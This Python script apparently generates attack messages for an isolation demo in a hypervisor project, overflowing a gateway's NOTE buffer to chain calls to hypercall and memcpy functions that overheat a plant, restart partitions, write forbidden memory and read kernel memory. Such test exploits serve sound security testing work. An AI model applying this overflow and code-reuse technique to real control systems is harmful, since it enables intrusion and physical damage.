"""Writes the attacker's messages: attack-hypercalls.bin, attack-memory.bin, attack-code.bin.

    python images/iot-gateway/make_attack.py

Each message has a NOTE that is longer than the gateway's buffer. What follows the buffer on the
gateway's stack is the list of steps that it is about to carry out: functions with three arguments
each. So the attacker has the gateway call functions of its own code, chosen by him, with arguments
chosen by him: code reuse, because memory that can be written is never executable. The functions
are two that the SDK puts at fixed addresses of every program, on every architecture:

    khs_hypercall(block)     any hypercall with any arguments
    memcpy(to, from, size)   reads and writes any memory

The message itself lies in the region `capture`, so its address is known too, and one message
serves all three architectures. The addresses are taken from the gateway's own ELF files.
"""

from __future__ import annotations

import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent

# partitions/gateway: struct transaction, struct step, struct capture
TEXT_BYTES, STEPS = 64, 8
MESSAGE = 0x5000_0008  # [region.capture], behind sequence and length
SPARE = 0x5000_0800  # the rest of that region
PLANT = 0x5000_1000  # [region.plant], which the gateway has no right to
KERNEL = 0x1001_0000  # where the kernel of the default board lies

# Hypercall numbers, and the gateway's ports in the order of system.toml.
RESTART, STOP, CONSOLE_WRITE, CALL, PORT_WRITE = 6, 10, 11, 13, 16
TEMPERATURE, SETPOINT, SERVICE = 0, 2, 3
CONTROLLER = 1
COLD_START = 1
PATIENCE_US = 1000


class Message:
    """A message under construction; `steps` are (function, three arguments)."""

    def __init__(self, functions: dict[str, int], steps: int) -> None:
        self.functions = functions
        overflow = TEXT_BYTES + 8 + 32 * steps
        self.head = b"NOTE %d:" % overflow
        self.tail = b"\nEND\n"
        self.data_at = -(-(MESSAGE + len(self.head) + overflow + len(self.tail)) // 8) * 8
        self.count = steps
        self.steps: list[bytes] = []
        self.data = b""

    def place(self, data: bytes) -> int:
        """Puts `data` behind the text and returns the address that it will have."""
        address = self.data_at + len(self.data)
        self.data += data + bytes(-len(data) % 8)
        return address

    def call(self, function: int, *arguments: int) -> None:
        padded = [*arguments, 0, 0, 0][:3]
        self.steps.append(struct.pack("<4Q", function, *padded))

    def hypercall(self, number: int, *arguments: int) -> None:
        padded = [*arguments, 0, 0, 0, 0, 0, 0][:6]
        block = self.place(struct.pack("<7QII", number, *padded, 0, 0))
        self.call(self.functions["khs_hypercall"], block)

    def copy(self, to: int, source: int, size: int) -> None:
        self.call(self.functions["memcpy"], to, source, size)

    def encode(self) -> bytes:
        assert len(self.steps) == self.count < STEPS
        text = b"A" * TEXT_BYTES + struct.pack("<II", self.count, 0) + b"".join(self.steps)
        whole = self.head + text + self.tail
        return whole.ljust(self.data_at - MESSAGE, b"\0") + self.data


def hypercalls(functions: dict[str, int]) -> bytes:
    """Asks for everything that would harm the plant, then reads the kernel's memory."""
    message = Message(functions, 7)
    too_hot = message.place(struct.pack("<IHHi4x", 0, 0, 0, 9999))
    message.hypercall(CALL, SETPOINT, too_hot, 16, SPARE, 32, PATIENCE_US)
    force = message.place(struct.pack("<IHHI4x", 0, 1, 0, 1000))
    message.hypercall(CALL, SERVICE, force, 16, SPARE, 32, PATIENCE_US)
    message.hypercall(RESTART, CONTROLLER, COLD_START)
    message.hypercall(STOP)
    freezing = message.place(struct.pack("<IHHIi", 0, 0, 0, 1, -400))
    message.hypercall(PORT_WRITE, TEMPERATURE, freezing, 16)
    message.hypercall(CONSOLE_WRITE, KERNEL, 64)
    message.copy(SPARE, KERNEL, 64)
    return message.encode()


def memory(functions: dict[str, int]) -> bytes:
    """Writes full heat to where the actuator would."""
    message = Message(functions, 1)
    full = message.place(struct.pack("<I4x", 1000))
    message.copy(PLANT, full, 4)
    return message.encode()


def code(functions: dict[str, int]) -> bytes:
    """Brings its own instructions: the traps of all three architectures, one after the other."""
    message = Message(functions, 1)
    message.call(message.place(bytes.fromhex("0f05cd80000000ef")))
    return message.encode()


MESSAGES = {"hypercalls": hypercalls, "memory": memory, "code": code}


def functions(elf: Path | bytes) -> dict[str, int]:
    """Addresses of the two functions in a gateway's ELF file."""
    import io

    from elftools.elf.elffile import ELFFile

    data = elf if isinstance(elf, bytes) else elf.read_bytes()
    symbols = ELFFile(io.BytesIO(data)).get_section_by_name(".symtab")
    return {
        name: symbols.get_symbol_by_name(name)[0]["st_value"]
        for name in ("khs_hypercall", "memcpy")
    }


def main() -> None:
    from khs import config, image

    found = [
        functions(image.build(config.load(HERE, board=board)).elfs["gateway"])
        for board in ("sabrelite", "q35", "pc")
    ]
    if any(other != found[0] for other in found):
        raise SystemExit(f"the functions have different addresses: {found}")
    for name, make in MESSAGES.items():
        (HERE / f"attack-{name}.bin").write_bytes(make(found[0]))


if __name__ == "__main__":
    main()
